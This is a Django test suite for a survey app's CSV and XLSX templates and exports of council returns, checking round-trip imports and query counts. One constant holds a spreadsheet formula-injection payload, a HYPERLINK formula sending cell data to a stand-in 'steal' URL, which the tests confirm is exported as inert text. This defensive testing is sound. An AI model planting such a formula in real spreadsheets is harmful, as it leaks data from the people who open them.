"""Downloads for project members: a blank template per survey (CSV and XLSX) and the returns
(CSV and XLSX), formula-safe, that import back unchanged."""

import csv
import datetime as dt
import io

import pytest
from django.conf import settings
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from surveys.imports import survey_import_apply, survey_import_check
from surveys.models import Response
from surveys.services import response_save_draft
from surveys.values import parse_answer

from ..factories import LocalAuthorityFactory
from ..queries import count_queries
from .import_files import (
    GATESHEAD,
    HEADER,
    NEWCASTLE,
    SUNDERLAND,
    csv_file,
    import_csv,
    make_setup,
    row_counts,
)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ATTACK = '=HYPERLINK("http://example.com/steal?"&A1,"Click me")'


def url(name: str, survey, fmt: str) -> str:
    return reverse(f"surveys:{name}", kwargs={"slug": survey.slug, "fmt": fmt})


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_sheets(content: bytes) -> dict[str, list[list[object]]]:
    workbook = load_workbook(io.BytesIO(content))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }


# ----- Templates -------------------------------------------------------------------------


def test_the_csv_template_has_the_columns_in_order_and_a_row_of_allowed_values(staff_client):
    setup = make_setup()

    response = staff_client.get(url("template", setup.survey, "csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{setup.survey.slug}-template.csv"'
    )
    header, notes = csv_rows(response.content)
    assert header == HEADER
    assert notes[0].startswith("# The area's ONS code")
    assert notes[1:] == [
        "Yes or No (required)",
        "One of: MASH | Co-located team | Other (required)",
        "One or more, separated by ';': Police | Health | Education (required)",
        "A whole or decimal number, such as 120 or 2.5 (required)",
        "A date as YYYY-MM-DD, such as 2012-10-01, between 1 January 1990 and "
        "31 December 2022 (optional)",
        "Any text, up to 5,000 characters (optional)",
    ]


def test_the_xlsx_template_has_the_header_first_and_a_sheet_of_allowed_values(staff_client):
    setup = make_setup()

    response = staff_client.get(url("template", setup.survey, "xlsx"))

    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        f'attachment; filename="{setup.survey.slug}-template.xlsx"'
    )
    sheets = xlsx_sheets(response.content)
    assert list(sheets) == ["Returns", "Allowed values"]
    assert sheets["Returns"] == [HEADER]
    allowed = sheets["Allowed values"]
    assert allowed[0] == ["Column", "Question", "Kind", "Required", "Allowed values"]
    assert [row[0] for row in allowed[1:]] == HEADER
    assert allowed[3] == [
        "Q2",
        "Which model?",
        "One choice",
        "Required",
        "One of: MASH | Co-located team | Other",
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_filled_in_template_imports_its_note_row_skipped(staff_client, fmt):
    setup = make_setup()
    template = staff_client.get(url("template", setup.survey, fmt)).content
    if fmt == "csv":
        content = template + csv_file([GATESHEAD])
    else:
        workbook = load_workbook(io.BytesIO(template))
        workbook.worksheets[0].append(GATESHEAD)
        buffer = io.BytesIO()
        workbook.save(buffer)
        content = buffer.getvalue()

    plan = survey_import_check(survey=setup.survey, file_name=f"t.{fmt}", content=content)

    assert plan.problems == []
    assert [r.local_authority for r in plan.new] == [setup.gateshead]


@pytest.mark.parametrize("name", ["template", "export"])
def test_a_format_other_than_csv_or_xlsx_is_not_found(staff_client, name):
    setup = make_setup()

    assert staff_client.get(url(name, setup.survey, "pdf")).status_code == 404


# ----- Export ----------------------------------------------------------------------------


@pytest.fixture
def returns(db, staff_user):
    """Gateshead and Sunderland submitted (Gateshead with a formula-like answer and a negative
    number), Newcastle a draft with only Q1 answered."""
    setup = make_setup()
    import_csv(
        setup,
        [
            HEADER,
            [*GATESHEAD[:4], "-3.5", GATESHEAD[5], ATTACK],
            SUNDERLAND,
        ],
    )
    q1 = setup.survey.questions.get(code="Q1")
    response_save_draft(
        survey=setup.survey,
        local_authority=setup.newcastle,
        values={q1: parse_answer(q1, "No", ["Yes", "No"])},
        user=staff_user,
        seen_version=None,
    )
    return setup


EXPORT_HEADER = ["local_authority", "dfe_code", "name", "region", "status", *HEADER[1:]]


def test_the_csv_export_has_a_row_per_return_with_display_values(staff_client, returns):
    response = staff_client.get(url("export", returns.survey, "csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{returns.survey.slug}-returns.csv"'
    )
    assert response.streaming, "sent as it is written, not built whole in memory"
    rows = csv_rows(response.getvalue())
    assert rows[0] == EXPORT_HEADER
    assert rows[1] == [
        "E08000037",
        "390",
        "Gateshead",
        "North East",
        "Submitted",
        "Yes",
        "MASH",
        "Police; Health",
        "-3.5",
        "2012-10-01",
        "'" + ATTACK,
    ]
    assert (
        rows[2]
        == ["E08000021", "391", "Newcastle upon Tyne", "North East", "Draft", "No"] + [""] * 5
    )
    assert rows[3][:5] == ["E08000024", "394", "Sunderland", "North East", "Submitted"]
    assert rows[3][5:] == ["Yes", "Co-located team", "Police", "40", "2013-04-01", ""]


def test_the_xlsx_export_has_typed_numbers_and_dates_and_a_sheet_of_questions(
    staff_client, returns
):
    response = staff_client.get(url("export", returns.survey, "xlsx"))

    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        f'attachment; filename="{returns.survey.slug}-returns.xlsx"'
    )
    assert response["Cache-Control"] == "private, no-store"
    sheets = xlsx_sheets(response.getvalue())
    assert list(sheets) == ["Returns", "Questions"]
    header, gateshead, newcastle, sunderland = sheets["Returns"]
    assert header == EXPORT_HEADER
    assert gateshead[5:8] == ["Yes", "MASH", "Police; Health"]
    assert gateshead[8] == -3.5
    assert gateshead[9] == dt.datetime(2012, 10, 1)
    assert newcastle[4:6] == ["Draft", "No"]
    assert sunderland[8] == 40


def test_a_free_text_answer_that_is_a_formula_is_exported_as_text_in_both_formats(
    staff_client, returns
):
    csv_cell = csv_rows(staff_client.get(url("export", returns.survey, "csv")).getvalue())[1][10]
    workbook = load_workbook(
        io.BytesIO(staff_client.get(url("export", returns.survey, "xlsx")).getvalue())
    )
    xlsx_cell = workbook["Returns"]["K2"]

    assert csv_cell == "'" + ATTACK
    assert xlsx_cell.data_type == "s"  # a string, not a formula ("f")
    assert xlsx_cell.value == "'" + ATTACK


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_importing_an_export_back_changes_nothing(staff_client, returns, fmt):
    export = staff_client.get(url("export", returns.survey, fmt)).getvalue()
    before = row_counts()

    batch = survey_import_apply(
        survey=returns.survey, file_name=f"export.{fmt}", content=export, user=None
    )

    assert (batch.created_count, batch.updated_count, batch.unchanged_count) == (0, 0, 2)
    after = row_counts()
    assert after.pop("surveys.ImportBatch") == before.pop("surveys.ImportBatch") + 1
    assert after == before
    assert Response.objects.get(local_authority=returns.newcastle).status == "draft"


def _add_returns(setup, user, count: int) -> None:
    """Returns up to `count` in all: the three areas from a file, then drafts in new areas
    with every question kind answered (two ticked choices)."""
    if not Response.objects.exists():
        import_csv(setup, [HEADER, GATESHEAD, NEWCASTLE, SUNDERLAND])
    questions = {q.code: q for q in setup.survey.questions.prefetch_related("choices")}
    answers = ["No", "Other", "Education; Police", "7", "2012-01-01", "Text"]
    for i in range(Response.objects.count(), count):
        response_save_draft(
            survey=setup.survey,
            local_authority=LocalAuthorityFactory.create(dfe_code=f"{800 + i}"),
            values={
                questions[code]: parse_answer(
                    questions[code], raw, [c.value for c in questions[code].choices.all()]
                )
                for code, raw in zip(HEADER[1:], answers, strict=True)
            },
            user=user,
            seen_version=None,
        )
    assert Response.objects.count() == count


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_reads_3_or_30_returns_in_the_same_queries(
    staff_client, staff_user, django_assert_num_queries, fmt
):
    setup = make_setup()
    export = url("export", setup.survey, fmt)

    def download() -> bytes:
        return staff_client.get(export).getvalue()  # the CSV reads as it streams: counted

    _add_returns(setup, staff_user, 3)
    three = count_queries(download)
    _add_returns(setup, staff_user, 30)

    # The session, the user and their groups, the survey, its questions (and for the XLSX's
    # sheet of questions, their choices), then every return with its answers in one query;
    # and the export's audit event (an insert, in a savepoint inside the test's transaction).
    assert three == {"csv": 9, "xlsx": 10}[fmt]
    with django_assert_num_queries(three):
        content = download()
    rows = csv_rows(content) if fmt == "csv" else xlsx_sheets(content)["Returns"]
    assert len(rows) == 31
    assert rows[-1][5:8] == ["No", "Other", "Police; Education"]


# ----- The export's plan on PostgreSQL ---------------------------------------------------

if settings.DATABASES["default"]["ENGINE"].endswith("postgresql"):

    def _plan(sql: str) -> list[str]:
        with connection.cursor() as cursor:
            cursor.execute(f"EXPLAIN {sql}")
            return [row[0] for row in cursor.fetchall()]

    def test_the_export_reads_its_returns_with_the_plan_for_all_its_rows(staff_client, staff_user):
        """The export reads its rows through a cursor, which PostgreSQL would otherwise plan
        to start fast (cursor_tuple_fraction): on a large database, a nested loop that reads
        every survey's answers again for each area, 5 to 15 times slower than reading them
        whole. Its plan is the one of the same query run outright."""
        setup = make_setup()
        _add_returns(setup, staff_user, 30)
        with CaptureQueriesContext(connection) as captured:
            staff_client.get(url("export", setup.survey, "csv")).getvalue()
        declared = [q["sql"] for q in captured.captured_queries if q["sql"].startswith("DECLARE")]
        assert len(declared) == 1
        select = declared[0][declared[0].index(" FOR SELECT ") + len(" FOR ") :]

        with transaction.atomic():
            as_cursor = _plan(f"DECLARE export_plan NO SCROLL CURSOR FOR {select}")

        assert as_cursor == _plan(select)
